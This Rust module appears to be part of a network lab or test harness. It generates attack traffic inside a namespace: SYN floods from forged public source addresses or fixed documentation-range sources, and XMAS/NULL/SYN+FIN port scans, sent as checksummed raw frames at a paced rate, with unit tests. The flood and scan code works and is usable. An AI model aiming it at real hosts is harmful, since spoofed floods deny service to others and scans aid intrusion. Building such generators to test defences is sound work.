//! Attacks on the wire: SYN floods and scans, paced, counted, sent as whole frames through a packet socket.
//!
//! The frames are well formed down to their checksums, so the kernel treats them as it would an attacker's.

use std::{
    fmt, io,
    net::Ipv4Addr,
    os::fd::AsFd,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use nix::net::if_::if_nametoindex;

use crate::{
    frame::{ACK, FIN, IPV4, PSH, SYN, TCP, URG},
    netns::Namespace,
    sys::{BATCH, packet_socket, send_frames},
};

/// Ethernet, IPv4, TCP, and a maximum-segment-size option as every real SYN has one.
const FRAME_BYTES: usize = 14 + 20 + 24;

type Frame = [u8; FRAME_BYTES];

/// After a pause of the generator longer than this it does not catch up: a burst would be another attack.
const LONGEST_DEBT: Duration = Duration::from_millis(50);

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Pattern {
    /// SYNs to one port, each from another, forged source.
    ForgedSyn,
    /// SYNs to one port from this many sources, `198.51.100.1` onwards, in turn.
    FixedSyn {
        /// 1 to 254.
        sources: u8,
    },
    /// XMAS, NULL and SYN+FIN segments in turn, to random ports, from 16 sources, `203.0.113.1` onwards.
    Scan,
}

/// An attack, ready to be started.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What is sent.
    pub pattern: Pattern,
    /// Packets a second.
    pub rate: u32,
    /// Source and destination of the Ethernet header.
    pub macs: ([u8; 6], [u8; 6]),
    /// The victim.
    pub victim: (Ipv4Addr, u16),
    /// Seed of ports, sequence numbers and forged sources.
    pub seed: u64,
}

/// An attack that runs, and ends when it is dropped.
pub struct Running {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
}

impl fmt::Debug for Running {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.debug_struct("Running").field("sent", &self.sent()).finish_non_exhaustive()
    }
}

impl Flood {
    /// Starts the attack out of `interface` in `namespace`.
    ///
    /// # Errors
    /// When the thread cannot be started; what goes wrong on it, [`Running::stop`] says.
    pub fn start(self, namespace: &Namespace, interface: &str) -> Result<Running> {
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stops, counts, interface) = (Arc::clone(&stop), Arc::clone(&sent), interface.to_owned());
        let thread = namespace.spawn("flood", move || self.send(&interface, &stops, &counts))?;
        Ok(Running { stop, sent, thread: Some(thread) })
    }

    fn send(self, interface: &str, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
        let index = if_nametoindex(interface).with_context(|| format!("looking for {interface}"))?;
        let socket = packet_socket(index).context("opening a packet socket")?;
        let mut random = Random(self.seed);
        let mut frames = Vec::with_capacity(BATCH);
        let mut number = 0;
        let mut pace = Pace::new(self.rate);
        while !stop.load(Ordering::Relaxed) {
            let due = pace.due(Instant::now());
            if due == 0 {
                // Pauses of one length would beat with the kernel's tick, by which it samples processor time.
                thread::sleep(Duration::from_micros(200 + random.below(1000)));
                continue;
            }
            frames.clear();
            for _ in 0..due.min(BATCH as u64) {
                frames.push(self.frame(number, &mut random));
                number += 1;
            }
            match send_frames(socket.as_fd(), &frames) {
                Ok(count) => {
                    let count = count as u64;
                    pace.sent(count);
                    sent.fetch_add(count, Ordering::Relaxed);
                }
                Err(error) if is_passing(&error) => thread::sleep(Duration::from_micros(100)),
                Err(error) => return Err(error).context("sending frames"),
            }
        }
        Ok(())
    }

    fn frame(&self, number: u64, random: &mut Random) -> Frame {
        let (source, port, flags) = match self.pattern {
            Pattern::ForgedSyn => (forged_source(random), self.victim.1, SYN),
            Pattern::FixedSyn { sources } => {
                (numbered([198, 51, 100], number, u64::from(sources)), self.victim.1, SYN)
            }
            Pattern::Scan => {
                let flags = match number % 3 {
                    0 => FIN | PSH | URG,
                    1 => 0,
                    _ => SYN | FIN,
                };
                let port = u16::try_from(1 + random.below(65_535)).unwrap_or(1);
                (numbered([203, 0, 113], number / 3, 16), port, flags)
            }
        };
        let ports = (u16::try_from(1024 + random.below(64_000)).unwrap_or(1024), port);
        let sequence = random.number().to_be_bytes();
        segment(self.macs, (source, self.victim.0), ports, flags, sequence)
    }
}

impl Running {
    /// Packets sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends the attack and returns how many packets were sent.
    ///
    /// # Errors
    /// What stopped the generator early.
    pub fn stop(mut self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        match self.thread.take().map(JoinHandle::join) {
            Some(Ok(result)) => result.map(|()| self.sent()),
            Some(Err(_)) => bail!("the flood's thread panicked"),
            None => Ok(self.sent()),
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // Its result no longer matters to anyone: whoever wants it calls `stop`.
            let _ = thread.join();
        }
    }
}

/// Whether the interface was merely full.
fn is_passing(error: &io::Error) -> bool {
    matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR))
}

/// How many packets are due.
#[derive(Debug)]
struct Pace {
    rate: u32,
    begun: Instant,
    sent: u64,
}

impl Pace {
    fn new(rate: u32) -> Self {
        Self { rate, begun: Instant::now(), sent: 0 }
    }

    fn due(&mut self, now: Instant) -> u64 {
        let owed = self.packets_in(now.duration_since(self.begun)).saturating_sub(self.sent);
        let most = self.packets_in(LONGEST_DEBT).max(1);
        if owed > most {
            self.sent += owed - most;
        }
        owed.min(most)
    }

    fn sent(&mut self, count: u64) {
        self.sent += count;
    }

    fn packets_in(&self, time: Duration) -> u64 {
        let packets = time.as_nanos() * u128::from(self.rate) / 1_000_000_000;
        u64::try_from(packets).unwrap_or(u64::MAX)
    }
}

/// `SplitMix64` (Steele, Lea and Flood, 2014): small, and good enough for ports and forged addresses.
#[derive(Debug)]
pub struct Random(pub u64);

impl Random {
    /// The next number, each of 32 bits equally likely.
    pub fn number(&mut self) -> u32 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) >> 32) as u32
    }

    /// A number below `bound`; its slight bias does not matter here.
    pub fn below(&mut self, bound: u32) -> u64 {
        (u64::from(self.number()) * u64::from(bound)) >> 32
    }
}

/// An address that could be anyone's: unicast, and none of the ranges that a host treats specially.
fn forged_source(random: &mut Random) -> Ipv4Addr {
    loop {
        let address = Ipv4Addr::from_bits(random.number());
        let [first, ..] = address.octets();
        let is_special = address.is_private() || address.is_loopback() || address.is_link_local();
        if (1..224).contains(&first) && !is_special {
            return address;
        }
    }
}

fn numbered([a, b, c]: [u8; 3], number: u64, of: u64) -> Ipv4Addr {
    Ipv4Addr::new(a, b, c, u8::try_from(1 + number % of.max(1)).unwrap_or(1))
}

fn segment(
    macs: ([u8; 6], [u8; 6]),
    (source, victim): (Ipv4Addr, Ipv4Addr),
    (from, to): (u16, u16),
    flags: u8,
    sequence: [u8; 4],
) -> Frame {
    debug_assert_eq!(flags & ACK, 0, "no segment here acknowledges anything");
    let mut tcp = [0; 24];
    put(&mut tcp, 0, &from.to_be_bytes());
    put(&mut tcp, 2, &to.to_be_bytes());
    put(&mut tcp, 4, &sequence);
    // Six words of header, flags, the largest unscaled window; then the option of 1 460 bytes a segment (RFC 9293, 3.2).
    put(&mut tcp, 12, &[6 << 4, flags, 0xff, 0xff]);
    put(&mut tcp, 20, &[2, 4, 0x05, 0xb4]);
    let mut pseudo = [0; 12];
    put(&mut pseudo, 0, &source.octets());
    put(&mut pseudo, 4, &victim.octets());
    put(&mut pseudo, 8, &[0, TCP, 0, 24]);
    let sum = checksum(&[&pseudo, &tcp]);
    put(&mut tcp, 16, &sum);

    let mut ip = [0; 20];
    put(&mut ip, 0, &[0x45, 0, 0, 44]);
    put(&mut ip, 4, &sequence[..2]);
    put(&mut ip, 8, &[64, TCP]);
    put(&mut ip, 12, &source.octets());
    put(&mut ip, 16, &victim.octets());
    let sum = checksum(&[&ip]);
    put(&mut ip, 10, &sum);

    let mut frame = [0; FRAME_BYTES];
    put(&mut frame, 0, &macs.1);
    put(&mut frame, 6, &macs.0);
    put(&mut frame, 12, &IPV4.to_be_bytes());
    put(&mut frame, 14, &ip);
    put(&mut frame, 34, &tcp);
    frame
}

fn put(target: &mut [u8], at: usize, bytes: &[u8]) {
    if let Some(place) = target.get_mut(at..at + bytes.len()) {
        place.copy_from_slice(bytes);
    }
}

/// The Internet checksum (RFC 1071) over parts of even length.
pub fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let mut sum: u32 = 0;
    for part in parts {
        for pair in part.chunks_exact(2) {
            if let [high, low] = pair {
                sum += u32::from(u16::from_be_bytes([*high, *low]));
            }
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flood(pattern: Pattern) -> Flood {
        let victim = (Ipv4Addr::new(10, 77, 0, 1), 8080);
        Flood { pattern, rate: 100_000, macs: ([2; 6], [4; 6]), victim, seed: 7 }
    }

    #[test]
    fn checksums_of_every_frame_come_out_even() {
        for pattern in [Pattern::ForgedSyn, Pattern::FixedSyn { sources: 64 }, Pattern::Scan] {
            let mut random = Random(1);
            for number in 0..1000 {
                let frame = flood(pattern).frame(number, &mut random);
                assert_eq!(checksum(&[&frame[14..34]]), [0, 0]);
                let pseudo = [&frame[26..34], &[0, TCP, 0, 24]].concat();
                assert_eq!(checksum(&[&pseudo, &frame[34..]]), [0, 0]);
                assert_eq!(usize::from(u16::from_be_bytes([frame[16], frame[17]])), frame.len() - 14);
            }
        }
    }

    #[test]
    fn fixed_sources_take_turns() {
        let mut random = Random(1);
        let mut seen = [0; 256];
        for number in 0..640 {
            let frame = flood(Pattern::FixedSyn { sources: 64 }).frame(number, &mut random);
            assert_eq!(frame[26..29], [198, 51, 100]);
            seen[usize::from(frame[29])] += 1;
        }
        assert!(seen[1..=64].iter().all(|count| *count == 10));
    }

    #[test]
    fn forged_sources_hardly_ever_repeat_and_are_never_special() {
        let mut random = Random(1);
        let sources: std::collections::BTreeSet<_> =
            (0..10_000).map(|_| forged_source(&mut random)).collect();
        assert!(sources.len() > 9_980);
        assert!(!sources.iter().any(|source| source.is_multicast() || source.is_private()));
    }

    #[test]
    fn a_pause_is_not_caught_up() {
        let mut pace = Pace::new(100_000);
        let begun = pace.begun;
        assert_eq!(pace.due(begun + Duration::from_millis(1)), 100);
        pace.sent(100);
        assert_eq!(pace.due(begun + Duration::from_millis(1)), 0);
        assert_eq!(pace.due(begun + Duration::from_secs(10)), 5_000);
        pace.sent(5_000);
        assert_eq!(pace.due(begun + Duration::from_secs(10)), 0);
    }
}
